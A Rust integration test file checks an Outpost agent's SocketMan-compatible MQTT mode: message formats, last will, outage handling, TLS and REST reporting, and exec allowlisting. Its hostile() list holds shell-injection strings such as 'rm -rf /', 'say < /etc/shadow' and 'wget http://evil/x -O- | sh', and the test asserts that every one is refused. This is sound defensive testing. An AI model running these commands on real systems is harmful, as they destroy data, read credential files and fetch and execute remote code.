//! Issue 18, part 1: the SocketMan drop-in through `outpost run --socketman-config`, against
//! a real Mosquitto, seen by `mosquitto_sub` (topic, QoS, retain flag and payload bytes) and
//! fed by `mosquitto_pub`: SocketMan's CONNECT, last will, PING, DELIVERED and PROCESSED,
//! byte for byte; jobs through the exec allowlist, shell text refused and audited unless
//! `socketman.allow_shell`; replies through the outbox across broker and agent outages.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::{
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use common::{mosquitto::Broker, Agent, Options, BIN};
use outpost_test_support::mosquitto_clients::{publish, Received, Sub};

const MAC: &str = "AA-BB-CC-00-11-2F";
const T: &str = "tony";
const K: &str = "k3y";

fn topic(dir: &str) -> String {
    format!("{dir}/{T}/{K}/{MAC}")
}

const ALLOWLIST: &str = r#"
[commands.uptime]
argv = ["/bin/echo", "up 3 days"]

[commands.say]
argv = ["/bin/echo", "{word}"]
params.word = { type = "string", pattern = "[a-z]+" }

[commands.quiet]
argv = ["/bin/true"]

[commands.nap]
argv = ["/bin/sleep", "{secs}"]
params.secs = { type = "integer", min = 1, max = 30 }

[commands.late]
argv = ["/bin/sh", "-c", "sleep 4; echo finished late"]
"#;

struct Setup {
    _dir: tempfile::TempDir,
    data: PathBuf,
    toml: PathBuf,
    json: PathBuf,
}

/// SocketMan's config.json for `port` (plus `extra` keys), and Outpost's own file.
fn setup(port: u16, allow_shell: bool, extra: &str) -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let json = dir.path().join("config.json");
    std::fs::write(
        &json,
        format!(
            r#"{{"username":"u","password":"p","topic":"{T}","key":"{K}","mqtt_host":"127.0.0.1","port":{port},"mac":"{MAC}","monitor":15,"token":"tok"{extra}}}"#
        ),
    )
    .unwrap();
    let toml = dir.path().join("outpost.toml");
    std::fs::write(
        &toml,
        format!(
            "[exec]\nenabled = true\nallow_inline = {allow_shell}\n\n[socketman]\nallow_shell = {allow_shell}\n{ALLOWLIST}"
        ),
    )
    .unwrap();
    Setup {
        data: dir.path().join("data"),
        _dir: dir,
        toml,
        json,
    }
}

fn start(s: &Setup) -> Agent {
    Agent::start(
        // SocketMan mode logs to syslog unless DEBUG is set; the harness reads stderr.
        Options::new(&s.data)
            .env("DEBUG", "1")
            .arg("--config")
            .arg(s.toml.to_str().unwrap())
            .arg("--socketman-config")
            .arg(s.json.to_str().unwrap()),
    )
}

fn subscribe(b: &Broker, session: Option<&str>) -> Sub {
    Sub::start(
        b.port,
        &[&topic("status"), &topic("delivery"), &topic("pub")],
        session,
    )
}

fn json(r: &Received) -> serde_json::Value {
    serde_json::from_str(&r.payload).unwrap_or_else(|e| panic!("{r:?}: {e}"))
}

fn ts(r: &Received) -> i64 {
    json(r)["timestamp"].as_i64().unwrap()
}

/// The CONNECT with `online` "1"/"0" (the n-th such one, from 0).
fn connect(sub: &Sub, online: &str, nth: usize) -> Received {
    let needle = format!(r#""event_type":"CONNECT","meta":{{"online":"{online}""#);
    let mut found = None;
    common::wait_until(
        &format!("CONNECT online {online:?} #{nth}"),
        Duration::from_secs(30),
        || {
            found = sub
                .received()
                .into_iter()
                .filter(|r| r.topic == topic("status") && r.payload.contains(&needle))
                .nth(nth);
            found.is_some()
        },
    );
    found.unwrap()
}

fn on(sub: &Sub, dir: &str, id: &str) -> Received {
    sub.wait(&format!("{dir} for {id}"), Duration::from_secs(30), |r| {
        r.topic == topic(dir) && json(r)["id"] == id
    })
}

fn delivered(sub: &Sub, id: &str) -> Received {
    on(sub, "delivery", id)
}

fn processed(sub: &Sub, id: &str) -> Received {
    on(sub, "pub", id)
}

fn job(b: &Broker, id: &str, msg: &str) {
    let body = serde_json::json!({"id": id, "timestamp": 1, "meta": {"msg": msg, "type": "ping"}});
    publish(b.port, &topic("sub"), &body.to_string(), 1);
}

fn client_id(r: &Received) -> String {
    json(r)["meta"]["client_id"].as_str().unwrap().to_owned()
}

/// The audit log's lines for SocketMan job `id`.
fn audit_lines(data: &Path, id: &str) -> Vec<serde_json::Value> {
    let text = std::fs::read_to_string(data.join("audit.log")).unwrap_or_default();
    text.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| {
            v["who"] == format!("socketman:{id}") || v["who"] == format!("socketman-boot:{id}")
        })
        .collect()
}

#[tokio::test]
async fn issue18_socketman_messages_are_socketmans_byte_for_byte_with_their_qos() {
    let b = Broker::start();
    let sub = subscribe(&b, None);
    let s = setup(b.port, false, "");
    let a = start(&s);

    // CONNECT, online "1", QoS 1, not retained.
    let hello = connect(&sub, "1", 0);
    let id = client_id(&hello);
    let (pid, mac) = id.split_once('x').unwrap();
    assert!(
        pid.bytes().all(|c| c.is_ascii_digit()) && mac == MAC,
        "{id}"
    );
    assert_eq!((hello.qos, hello.retained), (1, false), "{hello:?}");
    assert_eq!(
        hello.payload,
        format!(
            r#"{{"app":"socketman","timestamp":{},"event_type":"CONNECT","meta":{{"online":"1","client_id":"{id}"}}}}"#,
            ts(&hello)
        )
    );
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    assert!((ts(&hello) - now).abs() < 60, "{hello:?}");

    // A msg… job: PROCESSED with the output, then DELIVERED.
    job(&b, "msg-1", "say hello");
    let p = processed(&sub, "msg-1");
    assert_eq!((p.qos, p.retained), (1, false));
    assert_eq!(
        p.payload,
        format!(
            r#"{{"id":"msg-1","app":"socketman","timestamp":{},"event_type":"PROCESSED","meta":{{"msg":"hello\n"}}}}"#,
            ts(&p)
        )
    );
    let d = delivered(&sub, "msg-1");
    assert_eq!((d.qos, d.retained), (1, false));
    assert_eq!(
        d.payload,
        format!(
            r#"{{"id":"msg-1","app":"socketman","timestamp":{},"event_type":"DELIVERED","meta":{{"delivered":true}}}}"#,
            ts(&d)
        )
    );
    let all = sub.received();
    let pos = |r: &Received| all.iter().position(|x| x == r).unwrap();
    assert!(pos(&p) < pos(&d), "PROCESSED comes before DELIVERED");

    // Any other id: DELIVERED only. Empty output: "DNE".
    job(&b, "op-7", "uptime");
    job(&b, "msg-2", "quiet");
    delivered(&sub, "op-7");
    let p = processed(&sub, "msg-2");
    assert_eq!(json(&p)["meta"]["msg"], "DNE");
    delivered(&sub, "msg-2");
    assert!(
        !sub.received()
            .iter()
            .any(|r| r.topic == topic("pub") && json(r)["id"] == "op-7"),
        "no PROCESSED for an id without the msg prefix"
    );

    // A command longer than the keepalive (10 s) runs off the MQTT loop: other jobs are
    // answered meanwhile, and the connection never drops (no second CONNECT).
    job(&b, "msg-nap", "nap 16");
    job(&b, "msg-3", "say during");
    let p = processed(&sub, "msg-3");
    assert_eq!(json(&p)["meta"]["msg"], "during\n");
    assert!(
        !sub.received().iter().any(|r| json(r)["id"] == "msg-nap"),
        "the nap is still running"
    );
    // PING every ping-interval (30 s, SocketMan's minimum) at QoS 2, not retained.
    let ping = sub.wait("PING", Duration::from_secs(45), |r| {
        r.topic == topic("status") && r.payload.contains("PING")
    });
    assert_eq!((ping.qos, ping.retained), (2, false), "{ping:?}");
    assert_eq!(
        ping.payload,
        format!(
            r#"{{"timestamp":{},"app":"socketman","event_type":"PING"}}"#,
            ts(&ping)
        )
    );
    let p = processed(&sub, "msg-nap");
    assert_eq!(json(&p)["meta"]["msg"], "DNE");
    let connects = sub
        .received()
        .iter()
        .filter(|r| r.payload.contains("CONNECT"))
        .count();
    assert_eq!(
        connects,
        1,
        "one connection all along: {:?}",
        sub.received()
    );
    assert!(!b.log().contains("exceeded timeout"), "{}", b.log());
    drop(a);
}

#[tokio::test]
async fn issue18_socketman_last_will_on_kill_9_says_online_0() {
    let b = Broker::start();
    let sub = subscribe(&b, None);
    let s = setup(b.port, false, "");
    let mut a = start(&s);
    let hello = connect(&sub, "1", 0);
    let id = client_id(&hello);
    // Nothing said "0" before the agent died (a connection dropped while it was being
    // made would have fired the will early).
    assert!(
        !sub.received()
            .iter()
            .any(|r| r.payload.contains(r#""online":"0""#)),
        "{:?}",
        sub.received()
    );
    a.kill9();
    let will = connect(&sub, "0", 0);
    assert_eq!((will.qos, will.retained), (1, false), "{will:?}");
    assert_eq!(
        will.payload,
        format!(
            r#"{{"app":"socketman","timestamp":{},"event_type":"CONNECT","meta":{{"online":"0","client_id":"{id}"}}}}"#,
            ts(&will)
        )
    );
    // The will carries the dial time, not the time of death.
    assert!(ts(&will) <= ts(&hello), "{will:?} {hello:?}");
}

#[tokio::test]
async fn issue18_socketman_a_job_published_while_the_agent_is_away_runs_when_it_returns() {
    let b = Broker::start();
    let sub = subscribe(&b, None);
    let s = setup(b.port, false, "");
    let mut a = start(&s);
    let first = client_id(&connect(&sub, "1", 0));
    a.sigterm();
    assert!(a.wait_exit(Duration::from_secs(20)).success());
    // A clean stop says "0" itself (its DISCONNECT suppresses the will).
    connect(&sub, "0", 0);

    job(&b, "msg-away", "say back");
    let a = start(&s);
    let again = client_id(&connect(&sub, "1", 1));
    assert_eq!(
        first, again,
        "the same client id, so the same broker session"
    );
    let p = processed(&sub, "msg-away");
    assert_eq!(json(&p)["meta"]["msg"], "back\n");
    delivered(&sub, "msg-away");
    drop(a);
}

#[tokio::test]
async fn issue18_socketman_processed_for_a_job_finished_while_the_broker_is_down_arrives_after() {
    let mut b = Broker::start();
    // The backend: a persistent session, so what is published while it reconnects waits.
    let mut sub = subscribe(&b, Some("backend"));
    let s = setup(b.port, false, "");
    let a = start(&s);
    connect(&sub, "1", 0);
    job(&b, "msg-late", "late");
    // Running (its decision line is in the audit log), then the broker goes.
    let data = s.data.clone();
    common::wait_until("the job to start", Duration::from_secs(20), || {
        !audit_lines(&data, "msg-late").is_empty()
    });
    sub.stop();
    b.stop();
    common::wait_until("the job to finish", Duration::from_secs(20), || {
        audit_lines(&data, "msg-late").len() >= 2
    });
    b.restart();
    let sub = subscribe(&b, Some("backend"));
    let p = processed(&sub, "msg-late");
    assert_eq!(json(&p)["meta"]["msg"], "finished late\n");
    delivered(&sub, "msg-late");
    drop(a);
}

/// What SocketMan would have run as root, through `sh -c`.
fn hostile() -> Vec<&'static str> {
    vec![
        "say hi; echo pwned",
        "say hi && echo pwned",
        "say hi || echo pwned",
        "say hi | sh",
        "say $(echo pwned)",
        "say `echo pwned`",
        "say ${HOME}",
        "say hi > /tmp/socketman-pwned",
        "say hi >> /etc/passwd",
        "say < /etc/shadow",
        "say hi\necho pwned",
        "say hi\recho pwned",
        "say hi & echo pwned",
        "echo pwned",
        "reboot",
        "rm -rf /",
        "sаy hi",
        "say hi; reboot",
        "uptime; cat /etc/shadow",
        "PATH=/tmp say hi",
        "say 'hi'",
        "say \"hi\"",
        "say *",
        "say hi # comment",
        "(say hi)",
        "{ say hi; }",
        "/bin/sh -c 'echo pwned'",
        "wget http://evil/x -O- | sh",
    ]
}

#[tokio::test]
async fn issue18_socketman_shell_text_is_refused_and_audited() {
    let b = Broker::start();
    let sub = subscribe(&b, None);
    let s = setup(b.port, false, "");
    let a = start(&s);
    connect(&sub, "1", 0);
    let strings = hostile();
    assert!(strings.len() >= 20);
    for (i, msg) in strings.iter().enumerate() {
        job(&b, &format!("msg-h{i}"), msg);
    }
    for (i, msg) in strings.iter().enumerate() {
        let id = format!("msg-h{i}");
        let p = processed(&sub, &id);
        let text = json(&p)["meta"]["msg"].as_str().unwrap().to_owned();
        assert!(text.starts_with("refused: "), "{msg:?}: {text}");
        assert!(!text.contains("pwned\n"), "{msg:?}: {text}");
        // Shell text says why it was not a command.
        if msg.contains([
            ';', '|', '&', '$', '`', '>', '<', '\n', '\'', '"', '*', '(', '{', '#', '=',
        ]) {
            assert!(
                text.contains("socketman.allow_shell is off"),
                "{msg:?}: {text}"
            );
        }
        let d = delivered(&sub, &id);
        assert_eq!(json(&d)["meta"]["delivered"], false, "{msg:?}: {d:?}");
        assert_eq!(json(&d)["meta"]["refused"], text.as_str());
        // Audited: one refusal line, nothing allowed.
        let lines = audit_lines(&s.data, &id);
        assert_eq!(lines.len(), 1, "{msg:?}: {lines:?}");
        assert_eq!(lines[0]["decision"], "refused", "{msg:?}: {lines:?}");
    }
    // The chain holds, and an allowlisted command still runs.
    assert!(outpost_exec::verify(s.data.join("audit.log")).is_ok());
    job(&b, "msg-ok", "say fine");
    assert_eq!(json(&processed(&sub, "msg-ok"))["meta"]["msg"], "fine\n");
    assert!(!Path::new("/tmp/socketman-pwned").exists());
    drop(a);
}

#[tokio::test]
async fn issue18_socketman_allow_shell_runs_shell_text_audited_and_warns_at_start() {
    let b = Broker::start();
    let sub = subscribe(&b, None);
    let s = setup(b.port, true, "");
    let a = start(&s);
    connect(&sub, "1", 0);
    assert!(
        a.log_text().contains("socketman.allow_shell is ON"),
        "{}",
        a.log_text()
    );
    let cases = [
        ("echo a; echo b", "a\nb\n"),
        ("echo $(echo sub)", "sub\n"),
        ("echo `echo tick`", "tick\n"),
        ("echo x && echo y", "x\ny\n"),
        ("printf 'q\\n'", "q\n"),
        ("echo one\necho two", "one\ntwo\n"),
        ("say plain", "plain\n"),
    ];
    for (i, (msg, _)) in cases.iter().enumerate() {
        job(&b, &format!("msg-s{i}"), msg);
    }
    for (i, (msg, want)) in cases.iter().enumerate() {
        let id = format!("msg-s{i}");
        let p = processed(&sub, &id);
        assert_eq!(json(&p)["meta"]["msg"], *want, "{msg:?}");
        assert_eq!(json(&delivered(&sub, &id))["meta"]["delivered"], true);
        let lines = audit_lines(&s.data, &id);
        assert_eq!(lines.len(), 2, "a decision and an outcome: {lines:?}");
        assert_eq!(lines[0]["decision"], "allowed");
        // Shell text runs as an inline script (its hash audited); an allowlisted command
        // stays one.
        let inline = lines[0]["kind"] == "inline";
        assert_eq!(inline, *msg != "say plain", "{lines:?}");
    }
    drop(a);
}

fn run_with(json_text: &str, toml_extra: &str) -> (i32, String) {
    let dir = tempfile::tempdir().unwrap();
    let json = dir.path().join("config.json");
    std::fs::write(&json, json_text).unwrap();
    let toml = dir.path().join("outpost.toml");
    std::fs::write(&toml, format!("[exec]\nenabled = true\n{toml_extra}")).unwrap();
    let mut child = Command::new(BIN)
        .args(["run", "--data-dir"])
        .arg(dir.path().join("data"))
        .arg("--config")
        .arg(&toml)
        .arg("--socketman-config")
        .arg(&json)
        .env("OUTPOST_API_LISTEN", "127.0.0.1:0")
        .env("DEBUG", "1")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let end = Instant::now() + Duration::from_secs(20);
    loop {
        if let Some(st) = child.try_wait().unwrap() {
            let mut err = String::new();
            use std::io::Read;
            child
                .stderr
                .take()
                .unwrap()
                .read_to_string(&mut err)
                .unwrap();
            return (st.code().unwrap_or(-1), err);
        }
        if Instant::now() > end {
            let _ = child.kill();
            panic!("outpost run with a bad SocketMan config did not exit");
        }
        std::thread::park_timeout(Duration::from_millis(20));
    }
}

#[test]
fn issue18_socketman_a_bad_config_json_exits_2_naming_the_key() {
    let good =
        format!(r#""topic":"t","key":"k","mqtt_host":"127.0.0.1","port":1883,"mac":"{MAC}""#);
    let cases = [
        (format!(r#"{{{good},"monitor":"often"}}"#), "monitor"),
        (format!(r#"{{{good},"reboot":-5}}"#), "reboot"),
        (format!(r#"{{{good},"tls":1}}"#), "tls"),
        (
            r#"{"topic":"t","key":"k","mqtt_host":"h","port":1,"mac":"nope"}"#.to_owned(),
            "mac",
        ),
        (
            r#"{"topic":"t","key":"k","mqtt_host":"h","port":1,"mac_file":"/nonexistent/mac"}"#
                .to_owned(),
            "mac_file",
        ),
        (format!(r#"{{{good},"port":"x"}}"#), "port"),
        ("{not json".to_owned(), "not valid JSON"),
    ];
    for (text, key) in cases {
        let (code, err) = run_with(&text, "");
        assert_eq!(code, 2, "{text}: {err}");
        assert!(err.contains("socketman.config"), "{text}: {err}");
        assert!(err.contains(key), "{text}: {err}");
        assert!(!err.contains("panicked"), "{err}");
    }
    // The file does not exist.
    let (code, err) = {
        let dir = tempfile::tempdir().unwrap();
        let out = Command::new(BIN)
            .args(["run", "--data-dir"])
            .arg(dir.path())
            .arg("--socketman-config")
            .arg(dir.path().join("missing.json"))
            .env("OUTPOST_API_LISTEN", "127.0.0.1:0")
            .env("DEBUG", "1")
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("missing.json"), "{err}");
    // Jobs need the allowlist: exec off is refused by name; allow_shell needs inline.
    let ok = format!("{{{good}}}");
    let (code, err) = run_with(&ok, "[socketman]\nallow_shell = true\n");
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("socketman.allow_shell"), "{err}");
    let dir = tempfile::tempdir().unwrap();
    let json = dir.path().join("config.json");
    std::fs::write(&json, &ok).unwrap();
    let toml = dir.path().join("outpost.toml");
    std::fs::write(&toml, "[exec]\nenabled = false\n").unwrap();
    let out = Command::new(BIN)
        .args(["config", "check", "--config"])
        .arg(&toml)
        .env("OUTPOST_SOCKETMAN_CONFIG", &json)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("exec.enabled"),
        "{out:?}"
    );
}

#[tokio::test]
async fn issue18_socketman_is_off_without_its_config() {
    let b = Broker::start();
    let sub = subscribe(&b, None);
    let dir = tempfile::tempdir().unwrap();
    let a = Agent::start(Options::new(&dir.path().join("data")));
    let (_, info) = a
        .submit(serde_json::json!({"kind": "agent.info"}), Some(5.0))
        .await;
    let comps = info["output"]["components"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let sm = comps.iter().find(|c| c["name"] == "socketman").cloned();
    assert_eq!(
        sm,
        Some(serde_json::json!({"name": "socketman", "state": "off"})),
        "{info}"
    );
    assert!(!a.log_text().contains("socketman:"), "{}", a.log_text());
    assert!(sub.received().is_empty());
}

/// `rest = 1`: a `msg…` job's result is a `PATCH <api_url>/operations/<id>?access_token=`
/// with `{"success","msg"}` as JSON instead of PROCESSED; DELIVERED still goes by MQTT.
/// TLS is verified (here against `cacrt`): a server the agent cannot verify gets no report
/// unless `insecure` is set.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue18_socketman_rest_patches_results_to_the_api_with_tls_verified() {
    use outpost_test_support::{https::TestCa, recorder::Recorder};
    let b = Broker::start();
    let sub = subscribe(&b, None);
    let ca = TestCa::new();
    let api = Recorder::start(Some(ca.localhost())).await;
    let extra = |base: &str, insecure: bool| {
        format!(
            r#","rest":1,"api_url":"{base}/api/v2","cacrt":"{}","insecure":{}"#,
            ca.ca_file.display(),
            u8::from(insecure)
        )
    };
    let s = setup(b.port, false, &extra(&api.base(), false));
    let a = start(&s);
    connect(&sub, "1", 0);
    job(&b, "msg-r1", "say rested");
    job(&b, "msg-r2", "echo nope");
    job(&b, "op-r3", "say quiet");
    for id in ["msg-r1", "msg-r2", "op-r3"] {
        assert_eq!(
            json(&delivered(&sub, id))["meta"]["delivered"],
            id != "msg-r2"
        );
    }
    common::wait_for("two reports", Duration::from_secs(30), || async {
        api.requests().len() >= 2
    })
    .await;
    let mut reqs = api.requests();
    reqs.sort_by(|x, y| x.head.cmp(&y.head));
    assert_eq!(reqs.len(), 2, "no report for an id without the msg prefix");
    let line =
        |r: &outpost_test_support::http::Request| r.raw_head.lines().next().unwrap().to_owned();
    assert_eq!(
        line(&reqs[0]),
        "PATCH /api/v2/operations/msg-r1?access_token=tok HTTP/1.1"
    );
    assert!(
        reqs[0].head.contains("content-type: application/json"),
        "{}",
        reqs[0].head
    );
    assert!(
        reqs[0].head.contains("user-agent: cucumber bot"),
        "{}",
        reqs[0].head
    );
    assert_eq!(
        String::from_utf8(reqs[0].body.clone()).unwrap(),
        r#"{"success":true,"msg":"rested\n"}"#
    );
    assert_eq!(
        line(&reqs[1]),
        "PATCH /api/v2/operations/msg-r2?access_token=tok HTTP/1.1"
    );
    let v: serde_json::Value = serde_json::from_slice(&reqs[1].body).unwrap();
    assert_eq!(v["success"], false);
    assert!(
        v["msg"]
            .as_str()
            .unwrap()
            .starts_with("refused: unknown_command"),
        "{v}"
    );
    assert!(
        !sub.received().iter().any(|r| r.topic == topic("pub")),
        "rest = 1 sends no PROCESSED: {:?}",
        sub.received()
    );
    drop(a);

    // A certificate from a CA the agent does not trust: no report, unless insecure.
    let stranger = TestCa::new();
    for (n, insecure) in [false, true].into_iter().enumerate() {
        let api = Recorder::start(Some(stranger.localhost())).await;
        let s = setup(b.port, false, &extra(&api.base(), insecure));
        let a = start(&s);
        connect(&sub, "1", n + 1);
        let id = format!("msg-i{}", u8::from(insecure));
        job(&b, &id, "say hi");
        delivered(&sub, &id);
        if insecure {
            common::wait_for("the report", Duration::from_secs(30), || async {
                api.requests().len() == 1
            })
            .await;
            assert!(a.log_text().contains("NOT verified"), "{}", a.log_text());
        } else {
            common::wait_for("a refused handshake", Duration::from_secs(30), || async {
                api.handshake_failures() >= 1
            })
            .await;
            assert!(api.requests().is_empty());
        }
        drop(a);
    }
}

/// `boot_url` (GET with the token and the MAC; a `cmd` in its 200 reply) and `boot_cmd`,
/// once at start, both through the allowlist as audited exec jobs: shell text in either is
/// refused, and no DELIVERED is sent for them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue18_socketman_boot_url_and_boot_cmd_run_once_through_the_allowlist() {
    use outpost_test_support::{https::TestCa, recorder::Recorder};
    let b = Broker::start();
    let sub = subscribe(&b, None);
    let ca = TestCa::new();
    let api = Recorder::start(Some(ca.localhost())).await;
    api.answer_with(200, br#"{"cmd":"say booted"}"#);
    for (n, boot_cmd) in ["say started", "say x; reboot"].into_iter().enumerate() {
        let extra = format!(
            r#","boot_url":"{}/boot","boot_cmd":{},"cacrt":"{}""#,
            api.base(),
            serde_json::json!(boot_cmd),
            ca.ca_file.display()
        );
        let s = setup(b.port, false, &extra);
        let a = start(&s);
        connect(&sub, "1", n);
        let data = s.data.clone();
        common::wait_for(
            "both boot commands audited",
            Duration::from_secs(30),
            || {
                let data = data.clone();
                async move {
                    audit_lines(&data, "boot_url").len() >= 2
                        && !audit_lines(&data, "boot_cmd").is_empty()
                }
            },
        )
        .await;
        let line = api.requests()[n]
            .raw_head
            .lines()
            .next()
            .unwrap()
            .to_owned();
        assert_eq!(
            line,
            format!("GET /boot?access_token=tok&mac={MAC} HTTP/1.1")
        );
        let from_url = audit_lines(&s.data, "boot_url");
        assert_eq!(from_url[0]["decision"], "allowed", "{from_url:?}");
        assert_eq!(from_url[0]["command"], "say");
        let from_cmd = audit_lines(&s.data, "boot_cmd");
        let want = if n == 0 { "allowed" } else { "refused" };
        assert_eq!(from_cmd[0]["decision"], want, "{from_cmd:?}");
        drop(a);
    }
    assert_eq!(api.requests().len(), 2, "once per start");
    assert!(
        !sub.received().iter().any(|r| r.topic == topic("delivery")),
        "{:?}",
        sub.received()
    );
}

/// `tls: true`: the broker's certificate is verified against `cacrt` (never downloaded);
/// one from another CA is refused in the handshake, and the log says why.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn issue18_socketman_mqtt_tls_is_verified_against_cacrt() {
    use outpost_test_support::https::TestCa;
    let (ours, theirs) = (TestCa::new(), TestCa::new());
    for (n, server_ca) in [&ours, &theirs].into_iter().enumerate() {
        let certs = tempfile::tempdir().unwrap();
        let (cert, key) = server_ca.leaf_files(&["127.0.0.1"], certs.path());
        let plain = common::free_tcp_port();
        // The agent's listener is TLS; the test's subscriber uses a plain one beside it.
        let b = Broker::start_with(&format!(
            "certfile {}\nkeyfile {}\nallow_anonymous true\nlistener {plain} 127.0.0.1\nallow_anonymous true\n",
            cert.display(),
            key.display()
        ));
        let sub = Sub::start(plain, &[&topic("status")], None);
        let extra = format!(r#","tls":true,"cacrt":"{}""#, ours.ca_file.display());
        let s = setup(b.port, false, &extra);
        let a = start(&s);
        if n == 0 {
            let hello = connect(&sub, "1", 0);
            assert_eq!(json(&hello)["meta"]["online"], "1");
        } else {
            let log = a.log.clone();
            common::wait_until(
                "the refused handshake in the log",
                Duration::from_secs(30),
                || {
                    let text = log.lock().unwrap().join("\n");
                    text.contains("socketman: MQTT connection lost")
                        && text.to_lowercase().contains("certificate")
                },
            );
            assert!(sub.received().is_empty(), "{:?}", sub.received());
        }
        drop(a);
    }
}
